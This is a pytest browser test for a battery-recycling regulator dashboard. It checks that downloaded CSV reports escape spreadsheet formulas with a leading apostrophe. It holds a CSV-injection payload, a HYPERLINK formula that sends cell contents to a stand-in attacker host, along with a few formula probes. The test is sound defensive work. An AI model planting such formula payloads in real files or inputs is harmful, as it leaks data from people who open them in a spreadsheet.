"""CSV injection in the regulator dashboard's downloads (issue 10, finding 7): an operator names its
own collection point like a spreadsheet formula; the network CSV the page saves, and the CSV the page
builds itself (the national totals), hold such text with a leading apostrophe, numbers unchanged.
Both carry their header row in the page's language (issue 11, item 6: ``lang=`` on the API's CSV)."""

from __future__ import annotations

import csv
from typing import Any

import pytest

from batterytrace.trace.report_columns import column_keys, header_row
from tests.browser.conftest import DemoSite, console_errors, sign_in

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open report")'
POINT = "CP-110105-9901"


def _register_hostile_point(site: DemoSite) -> None:
    with site.server.client("outlet_operator", site.keys) as client:
        registered = client.post(
            "/api/v1/collection-points",
            json={
                "point_id": POINT,
                "operator_id": site.participants["outlet_operator"],
                "name": HOSTILE,
                "division_code": "110105",
            },
        )
        assert registered.status_code == 201, registered.text
        head = registered.json()["notification_id"]
    with site.server.client("regulator", site.keys) as client:  # the views have it before the page loads
        network = client.get("/api/v1/reports/network", params={"after": head, "region": "11"})
        assert network.status_code == 200, network.text
        assert POINT in {row["id"] for row in network.json()["items"]}


def _saved_report(page: Any, selector: str, report: str, language: str) -> list[dict[str, str]]:
    """A report's CSV as the page saved it, its header row in the page's language: each row read
    by column position into the report's keys (trace/report_columns.py)."""
    with page.expect_download() as caught:
        page.click(selector)
    with open(caught.value.path(), encoding="utf-8", newline="") as saved:
        header, *rows = list(csv.reader(saved))
    keys = column_keys(report)
    assert header == header_row(keys, report, language)
    return [dict(zip(keys, row, strict=True)) for row in rows]


@pytest.mark.parametrize("language", ["en", "zh"])
def test_the_downloaded_csvs_hold_formulas_as_plain_text(
    browser: Any, demo_site: DemoSite, language: str
) -> None:
    if POINT not in demo_site.extra:
        _register_hostile_point(demo_site)
        demo_site.extra[POINT] = True
    context = browser.new_context(accept_downloads=True, locale="en-GB")
    page = context.new_page()
    errors = console_errors(page)
    try:
        sign_in(page, demo_site, "regulator", "/regulator", lang=language)
        page.wait_for_selector("#regulator[data-state=ready]")

        saved = _saved_report(page, "#rg-network-card .rg-csv", "network", language)
        network = {row["id"]: row for row in saved}
        assert network[POINT]["name"] == "'" + HOSTILE
        assert float(network[POINT]["capacity_kg"]) >= 0

        # The page's own CSV builder (used for the totals) applies the same rule.
        with page.expect_download() as caught:
            page.evaluate(
                """() => BT.downloadCsv("probe.csv", ["text", "value"], [
                     { text: '=1+1', value: -3.5 }, { text: '@SUM(A1)', value: '-2' },
                     { text: '\\t=1', value: '+cmd' }, { text: 'plain', value: 0 }])"""
            )
        with open(caught.value.path(), encoding="utf-8", newline="") as saved:
            probe = list(csv.DictReader(saved))
        assert probe == [
            {"text": "'=1+1", "value": "-3.5"},
            {"text": "'@SUM(A1)", "value": "-2"},
            {"text": "'\t=1", "value": "'+cmd"},
            {"text": "plain", "value": "0"},
        ]
        with page.expect_download() as caught:
            page.click("#rg-totals-card .rg-csv")
        with open(caught.value.path(), encoding="utf-8", newline="") as saved:
            header, *totals = list(csv.reader(saved))
        assert header == (["metric", "value"] if language == "en" else ["指标", "数值"])
        assert totals and all(not value.startswith("'") for _metric, value in totals)
        rate = page.locator("#rg-totals [data-total=recycling_rate] .rg-total-label").inner_text()
        assert rate in {metric for metric, _value in totals}  # metrics named as on the page
        assert errors == []
    finally:
        context.close()
